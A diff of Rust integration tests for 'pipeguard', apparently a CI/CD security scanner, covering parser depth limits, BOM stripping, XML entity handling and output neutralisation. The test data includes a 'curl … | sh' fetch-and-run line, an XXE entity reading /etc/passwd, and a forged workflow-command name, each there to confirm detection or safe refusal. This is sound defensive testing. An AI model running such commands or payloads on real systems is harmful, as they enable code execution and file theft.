@@ -156,27 +156,57 @@ fn write(dir: &Path, rel: &str, text: &str) -> PathBuf {
     p
 }
 
-fn nested_parens(n: usize) -> String {
-    format!("{}true{}", "(".repeat(n), ")".repeat(n))
+/// The command at the bottom of every nested script: the rules that must still see it.
+const DEEPEST: &str = "curl -fsSL https://e.example/i.sh | sh; docker push r.example/app:1";
+
+fn nested_subshells(n: usize) -> String {
+    format!("{}{DEEPEST}{}", "( ".repeat(n), " )".repeat(n))
 }
 
 fn nested_substitutions(n: usize) -> String {
-    format!("echo {}true{}", "$(".repeat(n), ")".repeat(n))
+    format!("echo {}{DEEPEST}{}", "$( ".repeat(n), " )".repeat(n))
 }
 
 fn and_chain(n: usize) -> String {
-    vec!["true"; n].join(" && ")
+    format!("{} && {DEEPEST}", vec!["true"; n].join(" && "))
 }
 
-/// Every way a script can nest, in every place a script lives.
+/// `(path, rule, line)` of every finding, sorted.
+fn findings_of(report: &Value) -> Vec<(String, String, u64)> {
+    let mut v: Vec<(String, String, u64)> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| {
+            (
+                f["location"]["path"].as_str().unwrap().to_string(),
+                f["rule_id"].as_str().unwrap().to_string(),
+                f["location"]["start_line"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    v.sort();
+    v
+}
+
+fn owned(v: &[(&str, &str, u64)]) -> Vec<(String, String, u64)> {
+    v.iter()
+        .map(|(p, r, l)| ((*p).to_string(), (*r).to_string(), *l))
+        .collect()
+}
+
+/// Every way a script can nest, in every place a script lives: analysed to the bottom (the
+/// deepest command's `curl | sh` and `docker push` are found), no stack overflow.
 #[test]
 fn deep_shell_nesting_never_overflows_the_stack() {
     let scripts = [
-        ("parens-16k", nested_parens(16_000)),
-        ("substitutions-16k", nested_substitutions(16_000)),
-        ("and-20k", and_chain(20_000)),
+        ("subshells-16k", nested_subshells(16_000), true),
+        // `curl | sh` inside `$(…)` is not docker/curl-pipe-shell at any depth (its output is
+        // captured, not piped into the build).
+        ("substitutions-16k", nested_substitutions(16_000), false),
+        ("and-20k", and_chain(20_000), true),
     ];
-    for (name, script) in &scripts {
+    for (name, script, curl_pipe) in &scripts {
         let t = tempfile::tempdir().unwrap();
         let d = t.path();
         write(
@@ -207,18 +237,31 @@ fn deep_shell_nesting_never_overflows_the_stack() {
                 script.replace('&', "&amp;")
             ),
         );
-        let (report, _) = scan_bounded(&format!("scan {name}"), d, &[]);
-        assert_eq!(
-            report["files"]["scanned"].as_u64(),
-            Some(4),
-            "{name}: {report:#}"
-        );
+        let (report, m) = scan_bounded(&format!("scan {name}"), d, &[]);
+        assert_eq!(m.code, 0, "{name}: {}", m.stderr);
+        let mut want = vec![
+            (".github/workflows/ci.yml", "github/push-without-scan", 6),
+            ("Dockerfile", "docker/base-not-digest", 1),
+            ("Dockerfile", "docker/no-healthcheck", 1),
+            ("Dockerfile", "docker/root-user", 1),
+            ("Jenkinsfile", "jenkins/push-without-scan", 2),
+            ("jobs/app/config.xml", "jenkins/push-without-scan", 2),
+        ];
+        if *curl_pipe {
+            want.push(("Dockerfile", "docker/curl-pipe-shell", 2));
+            want.sort_unstable();
+        }
+        assert_eq!(findings_of(&report), owned(&want), "{name}");
+        assert_eq!(report["diagnostics"], serde_json::json!([]), "{name}");
+        assert_eq!(report["files"]["scanned"], 4, "{name}");
+        assert_eq!(report["files"]["failed"], 0, "{name}");
         // fingerprint parses the same scripts (job profiles).
         let mut cmd = Command::new(bin());
         cmd.arg("fingerprint").arg(d);
         let m = measured(cmd);
         report_case(&format!("fingerprint {name}"), &m);
-        assert!(matches!(m.code, 0 | 2), "{name}: {}", m.stderr);
+        assert_eq!(m.code, 0, "{name}: {}", m.stderr);
+        assert!(m.stdout.contains("jobs/app"), "{name}");
     }
 }
 
@@ -254,39 +297,54 @@ fn deep_and_many_yaml_flow_collections_are_refused_quickly() {
             s
         })
     };
-    let cases: Vec<(&str, &str, String, &str)> = vec![
+    const DEPTH: &str =
+        "YAML flow collections nested more than 64 levels deep (limit `yaml-flow-depth`)";
+    const COUNT: &str =
+        "more than 20000 YAML flow collections in one file (limit `yaml-flow-collections`)";
+    // (case, file, text, rule, line, limit message)
+    let cases: Vec<(&str, &str, String, &str, u64, &str)> = vec![
         (
             "workflow-100k",
             ".github/workflows/ci.yml",
             format!("on: push\nx: {}\n", deep(100_000)),
-            "yaml-flow-depth",
+            "github/parse-error",
+            2,
+            DEPTH,
         ),
         (
             "compose-30k",
             "docker-compose.yml",
             format!("services:\n  a:\n    image: {}\n", deep(30_000)),
-            "yaml-flow-depth",
+            "compose/parse-error",
+            3,
+            DEPTH,
         ),
         (
             "kubernetes-30k",
             "k8s/pod.yaml",
             format!("apiVersion: v1\nkind: Pod\nspec: {}\n", deep(30_000)),
-            "yaml-flow-depth",
+            "kubernetes/parse-error",
+            3,
+            DEPTH,
         ),
         (
             "compose-1.6MB-flow",
             "docker-compose.yml",
             format!("services:\n  a:\n    labels:\n{many}"),
-            "yaml-flow-collections",
+            "compose/parse-error",
+            103,
+            COUNT,
         ),
         (
             "kubernetes-1.6MB-flow",
             "k8s/cm.yaml",
             format!("apiVersion: v1\nkind: ConfigMap\ndata:\n{many}"),
-            "yaml-flow-collections",
+            "kubernetes/parse-error",
+            103,
+            COUNT,
         ),
     ];
-    for (name, rel, text, limit) in cases {
+    for (name, rel, text, rule, line, limit) in cases {
         let t = tempfile::tempdir().unwrap();
         write(t.path(), rel, &text);
         let (report, m) = scan_bounded(name, t.path(), &[]);
@@ -294,21 +352,24 @@ fn deep_and_many_yaml_flow_collections_are_refused_quickly() {
             m.code, 2,
             "{name}: an unparsed file makes the scan incomplete"
         );
-        let errs = parse_errors(&report);
-        assert!(
-            errs.iter().any(|(p, msg)| p == rel && msg.contains(limit)),
-            "{name}: {errs:?}"
+        assert_eq!(findings_of(&report), owned(&[(rel, rule, line)]), "{name}");
+        assert_eq!(
+            report["findings"][0]["message"],
+            format!("could not parse: {limit}"),
+            "{name}"
         );
+        assert_eq!(report["files"]["failed"], 1, "{name}");
         if rel.contains("workflows") {
             let mut cmd = Command::new(bin());
             cmd.arg("fingerprint").arg(t.path());
             let m = measured(cmd);
             report_case(&format!("fingerprint {name}"), &m);
             assert_eq!(m.code, 2, "{name}: {}", m.stderr);
-            assert!(
-                m.stderr.contains(rel) && m.stderr.contains(limit),
-                "{}",
-                m.stderr
+            assert_eq!(
+                m.stderr,
+                format!(
+                    "error: {rel}: cannot fingerprint: {limit} (line {line})\nerror: 1 file(s) could not be fingerprinted; their jobs are not in the lockfile\n"
+                )
             );
         }
     }
@@ -319,15 +380,19 @@ fn deep_and_many_yaml_flow_collections_are_refused_quickly() {
         ".pipeguard.yml",
         &format!("rules: {}\n", deep(30_000)),
     );
+    write(t.path(), "Dockerfile", "FROM alpine\n");
     let mut cmd = Command::new(bin());
     cmd.arg("scan").arg(t.path());
     let m = measured(cmd);
     report_case("config-30k", &m);
     assert_eq!(m.code, 2);
-    assert!(
-        m.stderr.contains(".pipeguard.yml") && m.stderr.contains("yaml-flow-depth"),
-        "{}",
-        m.stderr
+    assert_eq!(m.stdout, "");
+    assert_eq!(
+        m.stderr,
+        format!(
+            "error: {}:1: {DEPTH}\n",
+            t.path().join(".pipeguard.yml").display()
+        )
     );
 }
 
@@ -341,23 +406,26 @@ fn deep_groovy_nesting_is_refused_quickly() {
         "Jenkinsfile",
         &format!("{}{}", "node {\n".repeat(n), "}\n".repeat(n)),
     );
-    let (report, _) = scan_bounded("groovy-15k scan", t.path(), &[]);
-    let errs = parse_errors(&report);
-    assert!(errs.iter().any(|(p, _)| p == "Jenkinsfile"), "{errs:?}");
+    let (report, m) = scan_bounded("groovy-15k scan", t.path(), &[]);
+    assert_eq!(m.code, 2);
+    // The Groovy parser's own depth limit (each `node {` is a call and a closure).
+    assert_eq!(
+        findings_of(&report),
+        owned(&[("Jenkinsfile", "jenkins/parse-error", 33)])
+    );
+    assert_eq!(
+        report["findings"][0]["message"],
+        "could not parse: nesting too deep"
+    );
     let mut cmd = Command::new(bin());
     cmd.arg("fingerprint").arg(t.path());
     let m = measured(cmd);
     report_case("groovy-15k fingerprint", &m);
     assert_eq!(m.code, 2, "{}", m.stderr);
-    assert!(
-        m.stdout.len() < 1024 * 1024,
-        "{} bytes printed",
-        m.stdout.len()
-    );
-    assert!(
-        m.stderr.contains("Jenkinsfile") && m.stderr.contains("nested more than 64"),
-        "{}",
-        m.stderr
+    assert!(!m.stdout.contains("Jenkinsfile"), "{}", m.stdout);
+    assert_eq!(
+        m.stderr,
+        "error: Jenkinsfile: cannot fingerprint: brackets nested more than 64 levels deep on line 65\nerror: 1 file(s) could not be fingerprinted; their jobs are not in the lockfile\n"
     );
 }
 
@@ -579,93 +647,150 @@ fn implicit_files_are_not_followed_out_of_the_tree() {
     assert!(all.contains("symlink") && !all.contains("AAAAC3"), "{all}");
 }
 
-/// A UTF-8 byte order mark: every parser sees the document, columns are not shifted.
+/// A UTF-8 byte order mark: every parser sees the document, columns are not shifted. The tree
+/// with a BOM on every file gives exactly the findings (path, rule, line, column) of the same
+/// tree without.
 #[test]
 fn byte_order_marks_are_stripped_before_parsing() {
-    let t = tempfile::tempdir().unwrap();
-    let d = t.path();
-    let bom = "\u{feff}";
-    write(
-        d,
-        "k8s/pod.yaml",
-        &format!(
-            "{bom}apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  hostNetwork: true\n  containers:\n    - name: c\n      image: nginx:latest\n      securityContext:\n        privileged: true\n"
+    let files: [(&str, &str); 5] = [
+        (
+            "k8s/pod.yaml",
+            "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  hostNetwork: true\n  containers:\n    - name: c\n      image: nginx:latest\n      securityContext:\n        privileged: true\n",
         ),
-    );
-    write(
-        d,
-        ".github/workflows/ci.yml",
-        &format!(
-            "{bom}on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
+        (
+            ".github/workflows/ci.yml",
+            "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
         ),
-    );
-    write(
-        d,
-        "action.yml",
-        &format!(
-            "{bom}name: a\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n"
+        (
+            "action.yml",
+            "name: a\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n",
         ),
-    );
-    write(
-        d,
-        "main.tf",
-        &format!("{bom}resource \"aws_s3_bucket\" \"b\" {{\n  acl = \"public-read\"\n}}\n"),
-    );
-    write(
-        d,
-        "Dockerfile",
-        &format!("{bom}FROM alpine:latest\nUSER root\n"),
-    );
-    let (report, _) = scan_bounded("bom", d, &[]);
-    assert!(
-        parse_errors(&report).is_empty(),
-        "{:?}",
-        parse_errors(&report)
-    );
-    let findings = report["findings"].as_array().unwrap();
-    let of = |path: &str| {
-        findings
+        (
+            "main.tf",
+            "resource \"aws_s3_bucket\" \"b\" {\n  acl = \"public-read\"\n}\n",
+        ),
+        ("Dockerfile", "FROM alpine:latest\nUSER root\n"),
+    ];
+    let scan = |bom: &str| {
+        let t = tempfile::tempdir().unwrap();
+        for (rel, text) in files {
+            write(t.path(), rel, &format!("{bom}{text}"));
+        }
+        let (report, m) = scan_bounded(&format!("bom {}", !bom.is_empty()), t.path(), &[]);
+        assert_eq!(m.code, 0, "{}", m.stderr);
+        assert_eq!(report["files"]["failed"], 0);
+        assert_eq!(report["files"]["by_kind"]["kubernetes"], 1, "{report:#}");
+        assert_eq!(report["diagnostics"], serde_json::json!([]));
+        let mut v: Vec<(String, String, u64, u64)> = report["findings"]
+            .as_array()
+            .unwrap()
             .iter()
-            .filter(|f| f["location"]["path"] == path)
-            .count()
+            .map(|f| {
+                (
+                    f["location"]["path"].as_str().unwrap().to_string(),
+                    f["rule_id"].as_str().unwrap().to_string(),
+                    f["location"]["start_line"].as_u64().unwrap(),
+                    f["location"]["start_column"].as_u64().unwrap(),
+                )
+            })
+            .collect();
+        v.sort();
+        v
     };
-    assert!(
-        of("k8s/pod.yaml") >= 3,
-        "kubernetes manifest with a BOM skipped: {report:#}"
-    );
-    assert!(of(".github/workflows/ci.yml") >= 1, "{report:#}");
-    let from = findings
-        .iter()
-        .find(|f| f["location"]["path"] == "Dockerfile" && f["rule_id"] == "docker/unpinned-base")
-        .unwrap_or_else(|| panic!("{report:#}"));
-    assert_eq!(from["location"]["start_column"], 6, "{from:#}");
+    let with = scan("\u{feff}");
+    let want: Vec<(String, String, u64, u64)> = [
+        (
+            ".github/workflows/ci.yml",
+            "github/excessive-permissions",
+            3,
+            3,
+        ),
+        (".github/workflows/ci.yml", "github/unpinned-action", 6, 15),
+        ("Dockerfile", "docker/no-healthcheck", 1, 1),
+        ("Dockerfile", "docker/root-user", 2, 1),
+        ("Dockerfile", "docker/unpinned-base", 1, 6),
+        (
+            "k8s/pod.yaml",
+            "kubernetes/default-service-account-token",
+            2,
+            1,
+        ),
+        ("k8s/pod.yaml", "kubernetes/host-namespace", 6, 3),
+        ("k8s/pod.yaml", "kubernetes/no-resource-limits", 8, 7),
+        ("k8s/pod.yaml", "kubernetes/privilege-escalation", 8, 7),
+        ("k8s/pod.yaml", "kubernetes/privileged", 11, 9),
+        ("k8s/pod.yaml", "kubernetes/run-as-root", 8, 7),
+        ("k8s/pod.yaml", "kubernetes/unpinned-image", 9, 14),
+        ("k8s/pod.yaml", "kubernetes/writable-root-fs", 8, 7),
+        ("main.tf", "terraform/s3-no-public-access-block", 1, 1),
+        ("main.tf", "terraform/s3-public-acl", 2, 3),
+        ("main.tf", "terraform/s3-unencrypted", 1, 1),
+    ]
+    .iter()
+    .map(|(p, r, l, c)| ((*p).to_string(), (*r).to_string(), *l, *c))
+    .collect();
+    assert_eq!(with, want);
+    assert_eq!(with, scan(""));
 }
 
-/// `<!DOCTYPE project [ … ]>` does not hide a job (entities are still never expanded).
+/// `<!DOCTYPE project [ … ]>` does not hide a job; entities are still never expanded (an
+/// external entity in the job is a parse error naming it, no file is read).
 #[test]
 fn doctype_internal_subsets_do_not_hide_jobs() {
+    let job = |extra_entity: &str, script: &str| {
+        format!(
+            "<?xml version='1.1' encoding='UTF-8'?>\n<!DOCTYPE flow-definition [\n  <!ENTITY x \"a > b ] c\">{extra_entity}\n]>\n<flow-definition plugin=\"workflow-job\">\n  <definition class=\"org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition\">\n    <script>{script}</script>\n    <sandbox>false</sandbox>\n  </definition>\n</flow-definition>\n"
+        )
+    };
     let t = tempfile::tempdir().unwrap();
     write(
         t.path(),
         "jobs/app/config.xml",
-        "<?xml version='1.1' encoding='UTF-8'?>\n<!DOCTYPE flow-definition [\n  <!ENTITY x \"a > b ] c\">\n]>\n<flow-definition plugin=\"workflow-job\">\n  <definition class=\"org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition\">\n    <script>node { sh 'make' }</script>\n    <sandbox>false</sandbox>\n  </definition>\n</flow-definition>\n",
+        &job("", "node { sh 'make' }"),
     );
-    let (report, _) = scan_bounded("doctype", t.path(), &[]);
+    let (report, m) = scan_bounded("doctype", t.path(), &[]);
+    assert_eq!(m.code, 0);
     assert_eq!(report["files"]["by_kind"]["jenkins-job"], 1, "{report:#}");
-    assert!(
-        report["findings"]
-            .as_array()
-            .unwrap()
-            .iter()
-            .any(|f| f["rule_id"] == "jenkins/sandbox-disabled"),
-        "{report:#}"
+    assert_eq!(
+        findings_of(&report),
+        owned(&[("jobs/app/config.xml", "jenkins/sandbox-disabled", 8)])
     );
     let lock = pipeguard()
         .arg("fingerprint")
         .arg(t.path())
         .output()
         .unwrap();
-    assert!(String::from_utf8_lossy(&lock.stdout).contains("jobs/app"));
+    assert_eq!(lock.status.code(), Some(0));
+    let lock: Value = serde_json::from_slice(&lock.stdout).unwrap();
+    assert_eq!(lock["jobs"][0]["source"], "jobs/app/config.xml");
+    assert_eq!(lock["jobs"][0]["id"], "app");
+
+    let t = tempfile::tempdir().unwrap();
+    write(
+        t.path(),
+        "jobs/app/config.xml",
+        &job(
+            "\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
+            "node { sh 'make &xxe;' }",
+        ),
+    );
+    let (report, m) = scan_bounded("doctype xxe", t.path(), &[]);
+    assert_eq!(m.code, 2);
+    assert_eq!(
+        findings_of(&report),
+        owned(&[("jobs/app/config.xml", "jenkins/parse-error", 8)])
+    );
+    assert_eq!(
+        report["findings"][0]["message"],
+        "could not parse: unknown entity `&xxe;`"
+    );
+    let out = pipeguard()
+        .arg("fingerprint")
+        .arg(t.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("root:"));
 }
 
 /// Newlines, ANSI escapes and workflow commands in names: neutralised in every format.
@@ -688,6 +813,15 @@ fn untrusted_names_are_neutralised_in_every_format() {
             "{format}: forged workflow command: {s}"
         );
         assert!(!s.contains("\n::error file=x::pwned"), "{format}: {s}");
+        // The name is there, each control character as its control picture.
+        let shown = "evil\u{240a}::error file=x::pwned\u{241b}[31m.Dockerfile";
+        let want = match format {
+            "text" => format!(" --> {shown}:2:1\n"),
+            "github" => format!("::error file={},line=2,", shown.replace(':', "%3A")),
+            "markdown" => format!("| high | `docker/root-user` | `{shown}:2` |"),
+            _ => format!("<testcase classname=\"{shown}\" name=\"docker/root-user\">"),
+        };
+        assert!(s.contains(&want), "{format}: {want} not in {s}");
     }
     // The gate prints payload names (a workflow_run's name) neutralised too.
     let payload = write(
